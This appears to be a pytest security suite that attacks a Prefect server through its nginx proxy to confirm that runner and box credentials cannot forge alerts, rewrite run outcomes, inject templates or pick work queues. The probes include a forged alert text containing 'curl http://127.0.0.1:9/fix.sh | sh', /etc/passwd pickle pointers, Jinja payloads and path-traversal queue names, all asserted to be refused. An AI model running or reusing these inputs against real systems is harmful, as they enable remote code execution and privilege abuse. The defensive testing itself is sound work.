"""What each credential may do with runs and alerts, attacked through the real proxy and server (issue 49).

The project's own deployment, as `test_security_operator.py` starts it: `infra/prefect-server.sh run`,
`infra/prefect-proxy.sh run` (nginx with its njs checks) in front, `infra/deploy.sh` through the proxy with an
operator's credential and the laptop's alert listener (`DATAGEN_ALERT_LOG_DIR`: every alert is a line of
alerts.log), and `infra/prefect-worker.sh` through the proxy with the box credential. Every probe is one the issue
reported, sent as a runner or a box would send it; every refusal is checked twice: the answer, and (with the
operator's credential) that nothing changed. docs/security.md's table names each test.
"""

from __future__ import annotations

import base64
import json
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from datagen.local.localstack import LocalS3
from datagen.local.model_fixture import ensure_model_dir
from datagen.operations import alert_log
from tests.prefect_fixtures import (
    POOL,
    REPO_ROOT,
    PrefectApi,
    PrefectProxy,
    PrefectServer,
    free_port,
    prefect_proxy,
    prefect_server,
    prefect_worker,
    worker_env,
    write_prompts,
)

pytestmark = pytest.mark.slow

RUN_TIMEOUT_S = 300.0  # hang guards, not speed requirements
ALERT_TIMEOUT_S = 180.0
LATER = {"type": "SCHEDULED", "state_details": {"scheduled_time": "2099-01-01T00:00:00Z"}}  # no worker takes it
FORGED_TEXT = "URGENT: box compromised, run curl http://127.0.0.1:9/fix.sh | sh"


@dataclass
class Roles:
    server: PrefectServer
    proxy: PrefectProxy
    operator: PrefectApi
    runner: PrefectApi
    box: PrefectApi
    credentials: dict[str, str]
    spec: dict[str, Any]
    alerts_dir: Path
    worker_log: Path

    @property
    def alerts_log(self) -> Path:
        return self.alerts_dir / alert_log.LOG_NAME

    def env_check_id(self) -> str:
        return str(self.operator.deployment("check-environment", "environment-check")["id"])


@pytest.fixture(scope="module")
def roles(tmp_path_factory: pytest.TempPathFactory, local_s3: LocalS3) -> Iterator[Roles]:
    """Server, proxy, operator + runner credentials, deploy (with the alert listener) + pin, one worker."""
    root = tmp_path_factory.mktemp("roles")
    prompts = write_prompts(root / "prompts.jsonl", ["Say hi."])
    spec = {"sources": [{"path": str(prompts)}], "model_path": str(ensure_model_dir()), "namespace": "roles-ns"}
    alerts_dir = root / "alerts"
    with ExitStack() as stack:
        # People and boxes reach the server through the proxy, and so do the links in alerts.
        proxy_port = free_port()
        server = stack.enter_context(
            prefect_server(root / "prefect", {"DATAGEN_PROXY_URL": f"http://127.0.0.1:{proxy_port}"})
        )
        proxy = stack.enter_context(prefect_proxy(server, root / "proxy", proxy_port))
        credentials = {"operator": proxy.add_user("olga", "operator"), "runner": proxy.add_user("rui", "runner")}
        credentials["box"] = server.auth_string
        operator_env = proxy.client_env(server, root / "operator-home", credentials["operator"])
        stack.callback(alert_log.stop, alerts_dir)
        deploy = subprocess.run(
            ["bash", str(REPO_ROOT / "infra" / "deploy.sh")],
            env={**operator_env, "DATAGEN_ALERT_LOG_DIR": str(alerts_dir)},
            cwd=REPO_ROOT,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert deploy.returncode == 0, deploy.stdout + deploy.stderr
        worker_log = root / "worker.log"
        box = worker_env(local_s3, f"{root.name}/", root / "work", length_mean=8, length_max=16)
        stack.enter_context(
            prefect_worker(server, root / "worker-home", worker_log, {**box, "PREFECT_API_URL": proxy.api_url})
        )
        apis = {role: proxy.api(credential) for role, credential in credentials.items()}
        for api in apis.values():
            stack.callback(api.close)
        yield Roles(
            server, proxy, apis["operator"], apis["runner"], apis["box"], credentials, spec, alerts_dir, worker_log
        )


def _create(api: PrefectApi, deployment_id: str, body: dict[str, Any]) -> httpx.Response:
    return api.client.post(f"/deployments/{deployment_id}/create_flow_run", json=body)


def _later_run(d: Roles) -> dict[str, Any]:
    """A run a runner started for 2099: something to attack that no worker takes."""
    response = _create(d.runner, d.env_check_id(), {"parameters": {"spec": d.spec}, "state": LATER})
    assert response.status_code == 201, response.text
    run: dict[str, Any] = response.json()
    return run


def _finished_run(d: Roles, spec: dict[str, Any]) -> dict[str, Any]:
    """A run of the environment check that the worker ran to its end, started by the runner."""
    response = _create(d.runner, d.env_check_id(), {"parameters": {"spec": spec}})
    assert response.status_code == 201, response.text
    return d.operator.wait_for_flow_run(response.json()["id"], RUN_TIMEOUT_S, diagnostics=d.worker_log)


def _run_ids(d: Roles) -> set[str]:
    return {r["id"] for r in d.operator.flow_runs(d.env_check_id())}


def _refused(response: httpx.Response, *statuses: int) -> None:
    assert response.status_code in (statuses or (403,)), (response.status_code, response.text)
    assert "prefect-proxy" in response.text, response.text


def _alert_lines(d: Roles) -> list[str]:
    return d.alerts_log.read_text().splitlines() if d.alerts_log.exists() else []


def _wait_for_alert(d: Roles, text: str) -> str:
    deadline = time.monotonic() + ALERT_TIMEOUT_S
    while True:
        found = [line for line in _alert_lines(d) if text in line]
        if found:
            return found[0]
        assert time.monotonic() < deadline, f"no alert with {text!r}: {_alert_lines(d)}"
        time.sleep(1.0)


def _events(d: Roles, body: dict[str, Any]) -> list[dict[str, Any]]:
    response = d.operator.client.post("/events/filter", json={"limit": 50, **body})
    response.raise_for_status()
    events: list[dict[str, Any]] = response.json()["events"]
    return events


FORGE_EVENTS = """
import asyncio, json, sys
from prefect.events import Event
from prefect.events.clients import get_events_client

async def main():
    async with get_events_client() as client:
        for event in json.loads(sys.argv[1]):
            await client.emit(Event.model_validate(event))

asyncio.run(main())
"""


def _forge_events(d: Roles, events: list[dict[str, Any]], home: Path) -> None:
    """Send events as a box's flow run does: Prefect's events client, over the websocket, the box credential."""
    env = d.proxy.client_env(d.server, home, d.credentials["box"])
    result = subprocess.run(
        [sys.executable, "-c", FORGE_EVENTS, json.dumps(events)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def _flow_run_event(name: str, run: dict[str, Any], payload: dict[str, Any]) -> dict[str, Any]:
    return {
        "id": str(uuid.uuid4()),
        "occurred": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
        "event": name,
        "resource": {"prefect.resource.id": f"prefect.flow-run.{run['id']}", "prefect.resource.name": FORGED_TEXT},
        "related": [
            {"prefect.resource.id": f"prefect.deployment.{run['deployment_id']}", "prefect.resource.role": "deployment"}
        ],
        "payload": payload,
    }


# --- 1. forged failure alerts ---------------------------------------------------------------------------------


def test_forged_failures_fire_no_alert_and_a_real_one_says_only_what_was_recorded(roles: Roles, tmp_path: Path) -> None:
    d = roles
    dep_id = d.env_check_id()
    before = _run_ids(d)
    # A runner: a run born Crashed with a message and name of its choosing, and a forced Crashed on anyone's run.
    crashed = {"type": "CRASHED", "name": "Crashed", "message": FORGED_TEXT}
    _refused(_create(d.runner, dep_id, {"name": "urgent-box-compromised", "state": crashed}))
    _refused(_create(d.runner, dep_id, {"name": FORGED_TEXT}), 422)
    assert _run_ids(d) == before
    completed = _finished_run(d, d.spec)
    assert completed["state_type"] == "COMPLETED", completed["state"]
    forced = {"state": {**crashed, "data": {"storage_key": "/etc/passwd"}}, "force": True}
    _refused(d.runner.client.post(f"/flow_runs/{completed['id']}/set_state", json=forced))
    assert d.operator.flow_run(completed["id"])["state"]["id"] == completed["state"]["id"]
    # A box credential's events go over the websocket, where no proxy reads them: the alert checks them instead.
    forged = [
        _flow_run_event(
            "datagen.flow-run.failed",
            completed,
            {"failed_task": "URGENT", "task_message": FORGED_TEXT, "report_url": "http://127.0.0.1:9/fix"},
        ),
        _flow_run_event("prefect.flow-run.Crashed", completed, {}),
    ]
    _forge_events(d, forged, tmp_path / "box-home")
    # An operator's hand-set Crashed state is alerted, saying who set it.
    by_hand = _later_run(d)
    set_crashed = {"state": {"type": "CRASHED", "message": "testing the alert"}, "force": True}
    answer = d.operator.client.post(f"/flow_runs/{by_hand['id']}/set_state", json=set_crashed)
    assert answer.status_code in (200, 201), answer.text
    # A real failure: the environment check refuses FA3 in its task.
    failed = _finished_run(d, {**d.spec, "server_args": ["--attention-backend", "fa3"]})
    assert failed["state_type"] == "FAILED", failed["state"]

    line = _wait_for_alert(d, failed["id"])
    assert "ended Failed | failing task: check environment: " in line and "engine.attention_backend" in line, line
    (report,) = [a for a in d.operator.artifacts(failed["id"]) if a["key"] == "run-failure"]
    assert f"| why, with links: {d.proxy.url}/v2/artifacts/artifact/{report['id']} |" in line, line
    hand = _wait_for_alert(d, by_hand["id"])
    assert "ended Crashed | no failing task: the run crashed: set by hand by olga (operator): testing" in hand, hand
    # Each forged event reached the server and the automation, which refused to render an alert for it.
    for event in forged:
        deadline = time.monotonic() + ALERT_TIMEOUT_S
        query = {"filter": {"event": {"name": ["prefect.automation.action.failed"]}}}
        while True:
            refusals = [
                e
                for e in _events(d, query)
                if any(r["prefect.resource.id"] == f"prefect.event.{event['id']}" for r in e["related"])
            ]
            if refusals:
                break
            assert time.monotonic() < deadline, f"the automation never answered {event['event']}"
            time.sleep(1.0)
        assert "no_alert_the_run_s_recorded_state_is_not_this_failure" in refusals[0]["payload"]["reason"]
    lines = _alert_lines(d)
    assert not [line for line in lines if completed["id"] in line or "URGENT" in line or "fix.sh" in line], lines


# --- 2. rewritten outcomes --------------------------------------------------------------------------------------


def test_a_runner_cannot_rewrite_an_outcome_but_cancels_and_retries(roles: Roles) -> None:
    d = roles
    completed = _finished_run(d, d.spec)
    assert completed["state_type"] == "COMPLETED", completed["state"]
    pointer = {"storage_key": "/etc/passwd", "serializer": {"type": "pickle"}}
    for state in (
        {"type": "CRASHED", "message": "box compromised"},
        {"type": "FAILED", "message": "failed"},
        {"type": "COMPLETED", "message": "all good", "data": pointer},
        {"type": "RUNNING"},
    ):
        _refused(d.runner.client.post(f"/flow_runs/{completed['id']}/set_state", json={"state": state, "force": True}))
    # Cancelling or retrying a completed run would rewrite it too.
    _refused(
        d.runner.client.post(f"/flow_runs/{completed['id']}/set_state", json={"state": {"type": "CANCELLING"}}), 409
    )
    retry = {"state": {"type": "SCHEDULED", "name": "AwaitingRetry", "data": pointer}, "force": True}
    _refused(d.runner.client.post(f"/flow_runs/{completed['id']}/set_state", json=retry), 409)
    after = d.operator.flow_run(completed["id"])
    assert (after["state"]["id"], after["state"]["data"]) == (completed["state"]["id"], completed["state"]["data"])
    # What the runner may do, as the UI's buttons send it (force: true): cancel a run, then retry it.
    run = _later_run(d)
    cancel = {"state": {"type": "CANCELLING", "name": "Cancelling"}, "force": True}
    answer = d.runner.client.post(f"/flow_runs/{run['id']}/set_state", json=cancel)
    assert answer.status_code in (200, 201), answer.text
    cancelled = d.operator.flow_run(run["id"])
    assert cancelled["state_type"] == "CANCELLED", cancelled["state"]
    answer = d.runner.client.post(f"/flow_runs/{run['id']}/set_state", json=retry)
    assert answer.status_code in (200, 201), answer.text
    retried = d.operator.flow_run(run["id"])
    assert retried["state_name"] == "AwaitingRetry" and retried["state"]["data"] is None, retried["state"]
    assert retried["state"]["message"] == "retried by rui (runner)", retried["state"]
    final = d.operator.wait_for_flow_run(run["id"], RUN_TIMEOUT_S, diagnostics=d.worker_log)
    assert final["state_type"] == "COMPLETED", final["state"]


# --- 3. templates in parameters ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        {"__prefect_kind": "jinja", "template": '{{ "A" * 2000000 }}'},
        # A JSON string the server would parse after rendering the template inside it.
        {"__prefect_kind": "json", "value": {"__prefect_kind": "jinja", "template": '"{{ "A" * 2000000 }}"'}},
        {"__prefect_kind": "workspace_variable", "variable_name": "anything"},
    ],
    ids=["jinja", "jinja-inside-json", "workspace-variable"],
)
def test_templates_in_a_runner_s_parameters_are_refused(roles: Roles, value: dict[str, Any]) -> None:
    d = roles
    before = _run_ids(d)
    spec = {**d.spec, "sources": [{"path": value}]}
    response = _create(d.runner, d.env_check_id(), {"parameters": {"spec": spec}, "state": LATER})
    _refused(response, 422)
    assert "__prefect_kind" in response.text
    assert _run_ids(d) == before


# --- 4. the runner picks the box --------------------------------------------------------------------------------


def test_a_runner_s_run_goes_to_its_deployment_s_queue(roles: Roles) -> None:
    d = roles
    before = _run_ids(d)
    for queue in ("runner-made-queue", "control"):
        _refused(_create(d.runner, d.env_check_id(), {"work_queue_name": queue, "state": LATER}))
    assert d.operator.client.get(f"/work_pools/{POOL}/queues/runner-made-queue").status_code == 404
    assert _run_ids(d) == before
    # The box credential (a multi-box parent) names existing queues only, as run_deployment sends them.
    per_box = {"state": LATER, "labels": {}, "context": {}, "parent_task_run_id": None, "job_variables": None}
    _refused(_create(d.box, d.env_check_id(), {**per_box, "work_queue_name": "box-made-queue"}))
    assert d.operator.client.get(f"/work_pools/{POOL}/queues/box-made-queue").status_code == 404
    existing = _create(d.box, d.env_check_id(), {**per_box, "work_queue_name": "control"})
    assert existing.status_code == 201 and existing.json()["work_queue_name"] == "control", existing.text
    # The deployment's own queue, as the UI's form sends it, is the one the run gets.
    own = _create(d.runner, d.env_check_id(), {"work_queue_name": "default", "state": LATER})
    assert own.status_code == 201 and own.json()["work_queue_name"] == "default", own.text
    # Nor does a runner's run pass for an automation's (the server takes these headers as its provenance).
    name = base64.b64encode(b"datagen: a run failed or crashed").decode()
    headers = {"Prefect-Automation-Id": str(uuid.uuid4()), "Prefect-Automation-Name": name}
    claimed = d.runner.client.post(
        f"/deployments/{d.env_check_id()}/create_flow_run", json={"state": LATER}, headers=headers
    )
    assert claimed.status_code == 201 and claimed.json()["created_by"] is None, claimed.text


# --- 5. retries and the schema check ----------------------------------------------------------------------------


def test_a_runner_s_run_has_its_deployment_s_retries_and_schema_check(roles: Roles) -> None:
    d = roles
    before = _run_ids(d)
    _refused(_create(d.runner, d.env_check_id(), {"empirical_policy": {"retries": 3}, "state": LATER}))
    _refused(_create(d.runner, d.env_check_id(), {"enforce_parameter_schema": False, "state": LATER}))
    unknown = _create(d.runner, d.env_check_id(), {"parameters": {"no_such_parameter": 1}, "state": LATER})
    _refused(unknown, 422)
    wrong = _create(d.runner, d.env_check_id(), {"parameters": {"spec": {**d.spec, "shard_size": "many"}}})
    assert wrong.status_code == 409 and "Validation failed" in wrong.text, wrong.text  # the server's own check
    assert _run_ids(d) == before
    # The UI's run form sends Prefect's defaults (retries 0, schema check on): the run keeps the flow's own.
    form = {
        "empirical_policy": {"resuming": False, "max_retries": 0, "retry_delay_seconds": 0, "retries": 0},
        "enforce_parameter_schema": True,
        "state": {**LATER, "message": ""},
    }
    created = _create(d.runner, d.env_check_id(), form)
    assert created.status_code == 201, created.text
    assert created.json()["empirical_policy"]["retries"] is None, created.json()["empirical_policy"]


# --- 6. credentials matched exactly -----------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["runner", "box"])
def test_a_case_flipped_credential_is_refused(roles: Roles, role: str) -> None:
    d = roles
    token = base64.b64encode(d.credentials[role].encode()).decode()
    flipped = token.swapcase()
    assert flipped != token
    path = f"{d.proxy.api_url}/deployments/{d.env_check_id()}"
    assert httpx.get(path, headers={"Authorization": f"Basic {token}"}, timeout=30).status_code == 200
    refused = httpx.get(path, headers={"Authorization": f"Basic {flipped}"}, timeout=30)
    assert refused.status_code == 401, refused.text


# --- 7. least privilege -----------------------------------------------------------------------------------------


def test_the_alert_listener_holds_no_operator_credential(roles: Roles) -> None:
    pid = int((roles.alerts_dir / "alert-log.pid").read_text())
    environ = Path(f"/proc/{pid}/environ").read_bytes()
    assert b"alert_log" in Path(f"/proc/{pid}/cmdline").read_bytes()
    password = roles.credentials["operator"].split(":", 1)[1].encode()
    assert password not in environ
    assert roles.server.auth_string.split(":", 1)[1].encode() not in environ
    names = {item.split(b"=", 1)[0].decode() for item in environ.split(b"\0") if item}
    assert not {n for n in names if n.startswith(("PREFECT_", "DATAGEN_"))}, names


def test_the_box_credential_cannot_delete_or_rewrite_runs_it_was_not_given(roles: Roles) -> None:
    d = roles
    queued = _later_run(d)
    completed = _finished_run(d, d.spec)
    assert completed["state_type"] == "COMPLETED", completed["state"]
    (artifact, *_) = d.operator.artifacts(completed["id"])
    log = {"name": "forged", "level": 40, "message": FORGED_TEXT, "timestamp": "2026-01-01T00:00:00Z"}
    refused = {
        "delete a run": d.box.client.delete(f"/flow_runs/{completed['id']}"),
        "delete in bulk": d.box.client.post("/flow_runs/bulk_delete", json={"flow_runs": {}}),
        "rewrite parameters": d.box.client.patch(f"/flow_runs/{queued['id']}", json={"parameters": {"spec": {}}}),
        "rename a queued run": d.box.client.patch(f"/flow_runs/{queued['id']}", json={"name": "urgent"}),
        "end a queued run": d.box.client.post(
            f"/flow_runs/{queued['id']}/set_state", json={"state": {"type": "COMPLETED"}, "force": True}
        ),
        "rewrite an outcome": d.box.client.post(
            f"/flow_runs/{completed['id']}/set_state", json={"state": {"type": "FAILED"}, "force": True}
        ),
        "patch an ended run": d.box.client.patch(f"/flow_runs/{completed['id']}", json={"infrastructure_pid": "1"}),
        "emit an event": d.box.client.post("/events", json=[]),
        "log into a queued run": d.box.client.post("/logs/", json=[{**log, "flow_run_id": queued["id"]}]),
        "artifact of a queued run": d.box.client.post(
            "/artifacts/", json={"type": "markdown", "data": FORGED_TEXT, "flow_run_id": queued["id"]}
        ),
        "artifact of no run": d.box.client.post("/artifacts/", json={"type": "markdown", "data": FORGED_TEXT}),
        "rewrite an artifact": d.box.client.patch(f"/artifacts/{artifact['id']}", json={"data": FORGED_TEXT}),
        "delete an artifact": d.box.client.delete(f"/artifacts/{artifact['id']}"),
    }
    statuses = {what: r.status_code for what, r in refused.items()}
    assert all(status in (403, 409) for status in statuses.values()), {w: r.text for w, r in refused.items()}
    assert all("prefect-proxy" in r.text for r in refused.values()), {w: r.text for w, r in refused.items()}
    for run in (queued, completed):
        after = d.operator.flow_run(run["id"])
        assert (after["state"]["id"], after["parameters"], after["name"]) == (
            run["state"]["id"],
            run["parameters"],
            run["name"],
        )
    assert FORGED_TEXT not in d.operator.log_text(queued["id"])
    assert FORGED_TEXT not in [a["data"] for a in d.operator.artifacts(completed["id"])]
    assert d.operator.client.get(f"/artifacts/{artifact['id']}").json()["data"] == artifact["data"]
    assert d.operator.artifacts(queued["id"]) == []


# --- 8. small defects ---------------------------------------------------------------------------------------------


def test_a_body_over_a_mebibyte_reaches_the_server(roles: Roles) -> None:
    body = {"limit": 1, "flow_runs": {"name": {"any_": ["x" * 2_000_000]}}}
    response = roles.runner.client.post("/flow_runs/filter", json=body)
    assert response.status_code == 200 and response.json() == [], response.text[:300]


def test_http_1_0_without_host_gets_health(roles: Roles) -> None:
    with socket.create_connection(("127.0.0.1", roles.proxy.port), timeout=30) as conn:
        conn.sendall(b"GET /api/health HTTP/1.0\r\n\r\n")
        answer = b""
        while chunk := conn.recv(65536):
            answer += chunk
    status_line, _, rest = answer.partition(b"\r\n")
    assert status_line.split()[1] == b"200", answer[:300]
    assert rest.rstrip().endswith(b"true"), answer[:300]


def test_a_queue_name_prefect_forbids_is_refused_not_a_server_error(roles: Roles) -> None:
    before = _run_ids(roles)
    for queue in ("../../x", "a%2fb"):
        response = _create(roles.operator, roles.env_check_id(), {"work_queue_name": queue, "state": LATER})
        _refused(response, 422)
    assert _run_ids(roles) == before


def test_outsiders_get_health_and_the_ui_only(roles: Roles) -> None:
    url = roles.proxy.url
    for path in ("/docs", "/openapi.json", "/redoc", "/api/docs", "/api/openapi.json"):
        assert httpx.get(url + path, timeout=30).status_code == 401, path
    assert httpx.get(url + "/api/health", timeout=30).json() is True
    # The UI's own files and its settings (it reads them before its login box) stay open; nothing is written there.
    assert httpx.get(url + "/v2/", timeout=30).status_code == 200
    assert httpx.get(url + "/ui-settings", timeout=30).json()["auth"] == "BASIC"
    assert httpx.post(url + "/ui-settings", timeout=30).status_code == 403
    # With a credential, the API's documents are there.
    assert roles.runner.client.get(url + "/openapi.json").status_code == 200
